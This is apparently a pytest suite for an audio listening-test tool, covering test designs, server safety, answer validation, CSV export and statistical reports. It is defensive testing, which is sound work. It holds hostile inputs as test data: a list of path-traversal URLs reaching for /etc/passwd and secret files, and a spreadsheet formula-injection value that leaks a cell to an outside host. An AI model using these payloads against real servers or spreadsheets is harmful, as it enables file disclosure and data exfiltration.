"""wavegen listen: test designs, the results folder, the server's safety, storage, export and the report."""

from __future__ import annotations

import csv
import json
import math
import os
import signal
import subprocess
import sys
import threading

import numpy as np
import pytest
import soundfile as sf

from tests.listening import free_port, live_server, post, request, wait_for, write_samples
from wavegen import listen
from wavegen.errors import WavegenError
from wavegen.listen.design import load_design
from wavegen.listen.report import analyse, format_report, mean_interval, plot_report
from wavegen.listen.server import participant_token
from wavegen.listen.store import AnswerStore, export_csv, read_csv


@pytest.fixture
def samples(tmp_path):
    folder = tmp_path / "samples"
    folder.mkdir()
    return write_samples(folder)


@pytest.fixture
def mushra(samples, tmp_path):
    return listen.open_test(samples, results=tmp_path / "results")


def _session(port, participant="p1", token=None):
    from urllib.parse import urlencode
    query = {"participant": participant, **({"token": token} if token else {})}
    status, body = request(port, "GET", f"/api/session?{urlencode(query)}")
    assert status == 200, body
    return body


# --- designs and the results folder ---------------------------------------------------------------------

def test_mushra_from_a_folder_has_hidden_reference_and_anchors(samples, tmp_path):
    test = listen.open_test(samples, results=tmp_path / "r", mid_anchor=True)
    assert test.type == "mushra" and [t["name"] for t in test.trials] == ["samples/u1", "samples/u2"]
    for trial in test.trials:
        systems = {s["system"] for s in trial["stimuli"]}
        assert systems == {"noisy", "enhanced", "reference", "anchor-3.5kHz", "anchor-7kHz"}
        audio = {s["system"]: sf.read(test.folder / s["file"]) for s in trial["stimuli"]}
        reference, rate = sf.read(test.folder / trial["reference"])
        assert {a.shape for a, _ in audio.values()} == {reference.shape} and {r for _, r in audio.values()} == {rate}
        np.testing.assert_allclose(audio["reference"][0], reference, atol=1e-4)   # the hidden reference is it

        def share_above(x, hz):
            power = np.abs(np.fft.rfft(x)) ** 2
            return power[np.fft.rfftfreq(x.size, 1 / rate) > hz].sum() / power.sum()
        assert share_above(reference, 5000) > 0.005
        assert share_above(audio["anchor-3.5kHz"][0], 5000) < 1e-2 * share_above(reference, 5000)
        assert share_above(audio["anchor-7kHz"][0], 7700) < 0.1 * share_above(reference, 7700)
        assert share_above(audio["anchor-7kHz"][0], 4000) > 0.8 * share_above(reference, 4000)


def test_acr_and_ab_designs_from_a_folder(samples):
    acr = load_design(samples, "acr")
    assert len(acr.trials) == 6 and all(len(t.stimuli) == 1 for t in acr.trials)
    ab = load_design(samples, "ab")
    assert [sorted(t.stimuli) for t in ab.trials] == [["enhanced", "noisy"]] * 2
    assert all(t.reference.name.endswith("_clean.wav") for t in ab.trials)


def test_stimuli_are_opaque_and_the_order_is_per_participant(mushra):
    with live_server(mushra) as port:
        first, again, other = _session(port, "p1"), _session(port, "p1"), _session(port, "p2")
    assert first == again                                   # the same order on every visit
    orders = [[k["key"] for t in s["trials"] for k in t["stimuli"]] for s in (first, other)]
    assert sorted(orders[0]) == sorted(orders[1])
    text = json.dumps(first)
    assert not any(word in text for word in ("noisy", "enhanced", "anchor", "u1", "u2"))


def test_a_test_file_in_yaml(samples, tmp_path):
    spec = tmp_path / "test.yaml"
    spec.write_text("name: mine\ntype: ab\ntrials:\n  - name: one\n    stimuli: {a: samples/u1_noisy.wav, "
                    "b: samples/u1_enhanced.wav}\n")
    test = listen.open_test(spec, results=tmp_path / "r")
    assert (test.name, test.type, len(test.trials)) == ("mine", "ab", 1)
    assert test.trials[0]["reference"] is None


@pytest.mark.parametrize("text, problem", [
    ("type: mushra\ntrials:\n  - stimuli: {a: ../outside.wav}\n    reference: samples/u1_clean.wav\n", "outside"),
    ("type: mushra\ntrials:\n  - stimuli: {a: samples/missing.wav}\n    reference: samples/u1_clean.wav\n",
     "no such file"),
    ("type: opinion\ntrials:\n  - stimuli: {a: samples/u1_noisy.wav}\n", "unknown test type"),
    ("type: mushra\ntrials:\n  - stimuli: {a: samples/u1_noisy.wav}\n", "needs a reference"),
    ("type: mushra\ntrials:\n  - reference: samples/u1_clean.wav\n    stimuli: {"
     + ", ".join(f"s{i}: samples/u1_noisy.wav" for i in range(11)) + "}\n", "at most 12"),
    ("type: mushra\ntrials:\n  - reference: samples/u1_clean.wav\n    stimuli: {reference: samples/u1_noisy.wav}\n",
     "not allowed"),
    ("type: ab\ntrials:\n  - stimuli: {a: samples/u1_noisy.wav}\n", "exactly two"),
    ("type: ab\nextra: 1\ntrials: []\n", "unknown keys"),
    ("[unclosed", "not a readable test file"),
])
def test_a_bad_test_file_is_refused_with_its_name(samples, tmp_path, text, problem):
    (tmp_path / "outside.wav").write_bytes((samples / "u1_noisy.wav").read_bytes())
    spec = tmp_path / "test.yaml"
    spec.write_text(text)
    with pytest.raises(WavegenError, match=problem) as caught:
        listen.open_test(spec, results=tmp_path / "r")
    assert str(spec) in str(caught.value)
    assert not (tmp_path / "r").exists()


def test_the_results_folder_is_reused_for_the_same_test_and_refused_for_another(samples, tmp_path):
    first = listen.open_test(samples, results=tmp_path / "r")
    AnswerStore(first.database).answer("p", first.trials[0]["name"], "k", "noisy", score=40)
    again = listen.open_test(samples, results=tmp_path / "r")
    assert again.secret == first.secret and len(AnswerStore(again.database).rows()) == 1
    assert listen.open_test(tmp_path / "r").trials == first.trials          # a results folder continues
    sf.write(samples / "u1_noisy.wav", np.zeros(800), 16000)
    with pytest.raises(WavegenError, match="different test"):
        listen.open_test(samples, results=tmp_path / "r")
    with pytest.raises(WavegenError, match="not a listening-test results folder"):
        listen.open_test(samples, results=samples)
    assert len(AnswerStore(first.database).rows()) == 1


# --- the server ------------------------------------------------------------------------------------------

TRAVERSALS = [
    "/../secret", "/%2e%2e/secret", "/static/..%2f..%2fsecret", "/static/%2e%2e%2fserver.py",
    "/static/..%5cserver.py", "/static/%252e%252e%252fserver.py", "/audio/0/..%2f..%2fsecret",
    "/audio/0/%2e%2e%2f%2e%2e%2ftest.json", "/audio/0/ref/../../secret", "/audio/..%2f..%2f/secret",
    "/audio/0//etc/passwd", "/audio/0/%2fetc%2fpasswd", "/audio/0/..", "/secret", "/test.json",
    "/answers.sqlite", "/audio/0/ref.wav/..%2f..%2fsecret", "/audio/-1/ref", "/audio/99/ref",
    "/static/%c0%ae%c0%ae%c0%afsecret", "//etc/passwd",
]


def test_only_the_tests_own_files_are_served(mushra):
    with live_server(mushra) as port:
        assert request(port, "GET", "/")[0] == 200
        assert request(port, "GET", "/static/listen.js")[0] == 200
        key = mushra.trials[0]["stimuli"][0]["key"]
        status, body = request(port, "GET", f"/audio/0/{key}?participant=p")
        assert status == 200 and body[:4] == b"RIFF"
        for path in TRAVERSALS:
            status, body = request(port, "GET", path)
            assert status == 404, path
            assert b"FAKE" not in (body if isinstance(body, bytes) else b"")


def _ratings(test, trial, score=50):
    return [{"participant": "p1", "trial": trial, "stimulus": s["key"], "score": score}
            for s in test.trials[trial]["stimuli"]]


def test_malformed_answers_get_4xx_and_nothing_is_stored(mushra):
    good = _ratings(mushra, 0)[0]
    bad = [
        (b"not json", None), (b"[1, 2]", None), (None, {**good, "participant": ""}),
        (None, {**good, "participant": "x" * 65}), (None, {**good, "participant": "a\x00b"}),
        (None, {k: v for k, v in good.items() if k != "participant"}), (None, {**good, "trial": 2}),
        (None, {**good, "trial": -1}), (None, {**good, "trial": "0"}), (None, {**good, "trial": True}),
        (None, {**good, "stimulus": "nope"}), (None, {**good, "stimulus": ["x"]}),
        (None, {**good, "score": 101}), (None, {**good, "score": -0.5}), (None, {**good, "score": "50"}),
        (None, {**good, "score": True}), (None, {**good, "score": None}), (None, {**good, "pad": "x" * 5000}),
        (b'{"participant": "p1", "trial": 0, "stimulus": "k", "score": NaN}', None),
    ]
    with live_server(mushra) as port:
        for raw, body in bad:
            status, answer = request(port, "POST", "/api/answer", body, raw=raw)
            assert 400 <= status < 500 and answer["error"], (raw, body)
        assert post(port, "/api/complete", {"participant": "p1", "trial": 0})[0] == 400   # nothing rated yet
        assert request(port, "GET", "/api/session")[0] == 400
    assert AnswerStore(mushra.database).rows() == []


def test_acr_and_ab_answers_are_validated(samples, tmp_path):
    acr = listen.open_test(samples, kind="acr", results=tmp_path / "acr")
    ab = listen.open_test(samples, kind="ab", results=tmp_path / "ab")
    key = acr.trials[0]["stimuli"][0]["key"]
    with live_server(acr) as port:
        for score in (0, 6, 3.5):
            assert post(port, "/api/answer", {"participant": "p", "trial": 0, "stimulus": key, "score": score})[0] == 400
        assert post(port, "/api/answer", {"participant": "p", "trial": 0, "stimulus": key, "score": 4})[0] == 200
    with live_server(ab) as port:
        assert post(port, "/api/answer", {"participant": "p", "trial": 0, "choice": "nope"})[0] == 400
        choice = ab.trials[0]["stimuli"][1]
        assert post(port, "/api/answer", {"participant": "p", "trial": 0, "choice": choice["key"]})[0] == 200
    assert [(r["score"], r["choice"]) for r in AnswerStore(acr.database).rows()] == [(4.0, None)]
    assert [(r["system"], r["choice"]) for r in AnswerStore(ab.database).rows()] == [("enhanced vs noisy",
                                                                                        choice["system"])]


def test_abx_serves_the_participants_x_and_scores_the_identification(samples, tmp_path):
    from wavegen.listen.server import abx_x
    test = listen.open_test(samples, kind="abx", results=tmp_path / "r")
    assert all(t["reference"] is None and len(t["stimuli"]) == 2 for t in test.trials)
    lengths = {sf.info(test.folder / s["file"]).frames for s in test.trials[0]["stimuli"]}
    assert len(lengths) == 1                                # a length never tells X apart
    xs = {abx_x(test, f"p{i}", 0) for i in range(40)}
    assert xs == {s["key"] for s in test.trials[0]["stimuli"]}          # X is A for some, B for others
    with live_server(test) as port:
        session = _session(port, "p1")
        x = abx_x(test, "p1", 0)
        assert request(port, "GET", "/audio/0/x?participant=p1")[1] == (test.folder / next(
            s["file"] for s in test.trials[0]["stimuli"] if s["key"] == x)).read_bytes()
        assert request(port, "GET", "/audio/0/x")[0] == 400                 # whose X?
        assert all(t["x"] and t["reference"] is None for t in session["trials"])
        other = next(s["key"] for s in test.trials[0]["stimuli"] if s["key"] != x)
        assert post(port, "/api/answer", {"participant": "p1", "trial": 0, "choice": other})[0] == 200
        assert post(port, "/api/answer", {"participant": "p2", "trial": 0, "choice": abx_x(test, "p2", 0)})[0] == 200
    rows = {r["participant"]: r for r in AnswerStore(test.database).rows()}
    assert (rows["p1"]["score"], rows["p2"]["score"]) == (0.0, 1.0)


def test_answers_change_until_the_trial_is_complete(mushra):
    with live_server(mushra) as port:
        for answer in _ratings(mushra, 0, 30) + _ratings(mushra, 0, 70):
            assert post(port, "/api/answer", answer)[0] == 200
        assert post(port, "/api/complete", {"participant": "p1", "trial": 0})[0] == 200
        status, body = post(port, "/api/answer", _ratings(mushra, 0, 10)[0])
        assert status == 409 and "complete" in body["error"]
        session = _session(port)
    assert {r["score"] for r in AnswerStore(mushra.database).rows()} == {70.0}
    done = [t for t in session["trials"] if t["trial"] == 0][0]
    assert done["completed"] and set(done["answers"].values()) == {70.0}


def test_fifty_concurrent_submissions_are_each_stored_once(samples, tmp_path):
    test = listen.open_test(samples, results=tmp_path / "r")
    jobs = []
    for p in range(25):
        for trial in (0, 1):
            stimulus = test.trials[trial]["stimuli"][p % 4]
            jobs.append({"participant": f"p{p}", "trial": trial, "stimulus": stimulus["key"], "score": p + trial})
    assert len(jobs) == 50
    statuses = []
    with live_server(test) as port:
        barrier = threading.Barrier(len(jobs))

        def submit(job):
            barrier.wait()
            statuses.append(post(port, "/api/answer", job)[0])
        threads = [threading.Thread(target=submit, args=(job,)) for job in jobs]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert statuses == [200] * 50
    rows = AnswerStore(test.database).rows()
    names = [t["name"] for t in test.trials]
    assert sorted((r["participant"], r["trial"], r["system"], r["score"]) for r in rows) == sorted(
        (j["participant"], names[j["trial"]], test.trials[j["trial"]]["stimuli"][int(j["participant"][1:]) % 4]["system"],
         float(j["score"])) for j in jobs)


def test_beyond_loopback_every_request_needs_the_participants_token(mushra):
    token = participant_token(mushra.secret, "ana")
    key = mushra.trials[0]["stimuli"][0]["key"]
    with live_server(mushra, require_token=True) as port:
        assert request(port, "GET", "/api/session?participant=ana")[0] == 403
        assert request(port, "GET", f"/api/session?participant=ben&token={token}")[0] == 403
        assert request(port, "GET", f"/audio/0/{key}?participant=ana")[0] == 403
        assert request(port, "GET", f"/audio/0/{key}?participant=ana&token={token}")[0] == 200
        answer = {"participant": "ana", "trial": 0, "stimulus": key, "score": 80}
        assert post(port, "/api/answer", answer)[0] == 403
        assert post(port, "/api/answer", {**answer, "token": token})[0] == 200
        session = _session(port, "ana", token)
    assert all(f"token={token}" in s["audio"] for t in session["trials"] for s in t["stimuli"])


def test_the_cli_refuses_to_serve_beyond_loopback_without_participants(samples, tmp_path):
    run = subprocess.run([sys.executable, "-m", "wavegen.cli", "listen", str(samples), "--results",
                          str(tmp_path / "r"), "--host", "0.0.0.0"], capture_output=True, text=True)
    assert run.returncode != 0 and "--participant" in run.stderr and "Traceback" not in run.stderr


def test_a_server_killed_mid_test_loses_nothing_and_the_participant_resumes(samples, tmp_path):
    port = free_port()
    command = [sys.executable, "-m", "wavegen.cli", "listen", str(samples), "--results", str(tmp_path / "r"),
               "--port", str(port)]

    def start():
        server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
        wait_for(port)
        return server
    server = start()
    try:
        session = _session(port)
        first, second = session["trials"][0], session["trials"][1]
        for s in first["stimuli"]:
            assert post(port, "/api/answer", {"participant": "p1", "trial": first["trial"], "stimulus": s["key"],
                                              "score": 90})[0] == 200
        assert post(port, "/api/complete", {"participant": "p1", "trial": first["trial"]})[0] == 200
        half = second["stimuli"][:2]
        for s in half:
            assert post(port, "/api/answer", {"participant": "p1", "trial": second["trial"], "stimulus": s["key"],
                                              "score": 20})[0] == 200
    finally:
        os.killpg(server.pid, signal.SIGKILL)
        server.wait()
    server = start()
    try:
        resumed = _session(port)
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait()
    assert [t["trial"] for t in resumed["trials"]] == [t["trial"] for t in session["trials"]]
    assert resumed["trials"][0]["completed"] and not resumed["trials"][1]["completed"]
    assert resumed["trials"][1]["answers"] == {s["key"]: 20.0 for s in half}
    assert len(AnswerStore(tmp_path / "r" / "answers.sqlite").rows()) == len(first["stimuli"]) + 2


# --- export and report -----------------------------------------------------------------------------------

def test_the_csv_export_never_lets_a_spreadsheet_run_a_field(mushra, tmp_path):
    evil = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    store = AnswerStore(mushra.database)
    for participant in (evil, "+1", "@SUM(A1)", "-2+3", "plain"):
        store.answer(participant, mushra.trials[0]["name"], "k", "noisy", score=55)
    path = export_csv(store, tmp_path / "answers.csv", test=mushra.name, kind="mushra")
    with path.open(newline="") as f:
        cells = [row for row in csv.reader(f)][1:]
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert all(not cell.startswith(dangerous) for row in cells for cell in row)
    assert {row[2] for row in cells} == {"'" + evil, "'+1", "'@SUM(A1)", "'-2+3", "plain"}
    assert all(line.startswith('"') for line in path.read_text().splitlines())       # every field quoted
    assert {row["participant"] for row in read_csv(path)} == {evil, "+1", "@SUM(A1)", "-2+3", "plain"}


HAND_MADE = """test,type,participant,trial,system,score,choice,answered_at
t,mushra,A,1,reference,100,,
t,mushra,A,2,reference,95,,
t,mushra,A,3,reference,92,,
t,mushra,A,4,reference,100,,
t,mushra,A,1,sysX,50,,
t,mushra,A,2,sysX,60,,
t,mushra,A,3,sysX,70,,
t,mushra,A,4,sysX,80,,
t,mushra,B,1,reference,100,,
t,mushra,B,2,reference,80,,
t,mushra,B,3,reference,100,,
t,mushra,B,4,reference,100,,
t,mushra,B,1,sysX,0,,
t,mushra,B,2,sysX,0,,
t,mushra,B,3,sysX,0,,
t,mushra,B,4,sysX,0,,
t,mushra,C,1,reference,90,,
t,mushra,C,2,reference,100,,
t,mushra,C,3,reference,100,,
t,mushra,C,4,reference,100,,
t,mushra,C,1,sysX,40,,
t,mushra,C,2,sysX,50,,
t,mushra,C,3,sysX,60,,
t,mushra,C,4,sysX,70,,
t,acr,D,1,tts,4,,
t,acr,D,2,tts,5,,
t,acr,E,1,tts,3,,
t,acr,E,2,tts,4,,
"""


def test_the_report_on_a_hand_made_file(tmp_path):
    rows = HAND_MADE.splitlines()
    ab = [f"t,ab,P{i},{i},a vs b,,{'a' if i < 9 else 'b'}," for i in range(10)]
    abx = [f"t,abx,Q{i},{i},a vs c,{int(i < 7)},a," for i in range(10)]
    path = tmp_path / "answers.csv"
    path.write_text("\n".join(rows + ab + abx) + "\n")
    report = analyse(read_csv(path))
    # B rated the hidden reference below 90 in 1 of 4 trials (25 % > 15 %); C's 90 is not below 90.
    assert list(report.excluded) == ["B"] and "1 of 4 trials" in report.excluded["B"]
    scores = {(s["type"], s["system"]): s for s in report.scores}
    x = scores[("mushra", "sysX")]
    # A and C: 50 60 70 80 40 50 60 70 → mean 60, s = sqrt(1200 / 7), t(0.975, 7) = 2.364624
    half = 2.364624 * math.sqrt(1200 / 7) / math.sqrt(8)
    assert x["n"] == 8 and x["mean"] == pytest.approx(60) and x["low"] == pytest.approx(60 - half, abs=1e-4)
    assert x["high"] == pytest.approx(60 + half, abs=1e-4)
    ref = scores[("mushra", "reference")]
    assert ref["n"] == 8 and ref["mean"] == pytest.approx((387 + 390) / 8)
    tts = scores[("acr", "tts")]
    # 4 5 3 4 → MOS 4, s = sqrt(2/3), t(0.975, 3) = 3.182446
    assert tts["mean"] == pytest.approx(4) and tts["high"] - 4 == pytest.approx(3.182446 * math.sqrt(2 / 3) / 2,
                                                                                abs=1e-5)
    (pref,) = report.preferences
    # 9 of 10 chose a: two-sided exact p = 2 (1 + 10) / 1024; Clopper–Pearson [0.5550, 0.9975]
    assert (pref["first"], pref["n"], pref["first_count"]) == ("a", 10, 9)
    assert pref["p"] == pytest.approx(22 / 1024)
    assert pref["low"] == pytest.approx(0.5550, abs=1e-4) and pref["high"] == pytest.approx(0.9975, abs=1e-4)
    (told,) = report.identification
    # X identified in 7 of 10: one-sided p = (120 + 45 + 10 + 1) / 1024; Clopper–Pearson [0.3475, 0.9333]
    assert (told["n"], told["correct"]) == (10, 7) and told["p"] == pytest.approx(176 / 1024)
    assert told["low"] == pytest.approx(0.3475, abs=1e-4) and told["high"] == pytest.approx(0.9333, abs=1e-4)
    text = format_report(report)
    assert "excluded 'B'" in text and "sysX" in text and "0.0215" in text and "0.1719" in text
    from PIL import Image
    assert Image.open(plot_report(report, tmp_path / "report.png")).size[0] > 1000     # four panels


def test_mean_interval_of_one_value_has_no_bounds():
    mean, low, high = mean_interval([70.0])
    assert mean == 70 and math.isnan(low) and math.isnan(high)


def test_report_cli_writes_table_plot_and_csv(mushra, tmp_path):
    store = AnswerStore(mushra.database)
    for p, reference in (("p1", 100), ("p2", 85)):          # p2 fails post-screening in both trials
        for trial in mushra.trials:
            for s in trial["stimuli"]:
                score = {"reference": reference, "anchor-3.5kHz": 20, "noisy": 40, "enhanced": 60}[s["system"]]
                store.answer(p, trial["name"], s["key"], s["system"], score=score + (trial is mushra.trials[1]))
    run = subprocess.run([sys.executable, "-m", "wavegen.cli", "listen", "--report", str(mushra.folder)],
                         capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert "excluded 'p2'" in run.stdout and "2 of 2 trials" in run.stdout
    enhanced = next(line for line in run.stdout.splitlines() if " enhanced " in line)
    assert enhanced.split()[2:4] == ["2", "60.5"]              # p1's 60 and 61
    for name in ("report.txt", "report.png", "answers-mushra.csv"):
        assert (mushra.folder / name).stat().st_size > 0


def test_gallery_page_has_a_player_and_spectrogram_per_file(samples, tmp_path):
    from PIL import Image
    Image.new("RGB", (8, 8)).save(samples / "grid.png")
    out = tmp_path / "gallery"
    run = subprocess.run([sys.executable, "-m", "wavegen.cli", "listen", str(samples), "--gallery", "-o", str(out)],
                         capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    page = (out / "index.html").read_text()
    assert page.count("<audio") == 6 and page.count("spectrograms/") == 6 and 'src="media/grid.png"' in page
    for wav in samples.glob("*.wav"):
        assert (out / "media" / wav.name).read_bytes() == wav.read_bytes()
        assert (out / "spectrograms" / f"{wav.name}.png").stat().st_size > 1000
    inside = subprocess.run([sys.executable, "-m", "wavegen.cli", "listen", str(samples), "--gallery", "-o",
                             str(samples / "g")], capture_output=True, text=True)
    assert inside.returncode != 0 and "outside the samples folder" in inside.stderr
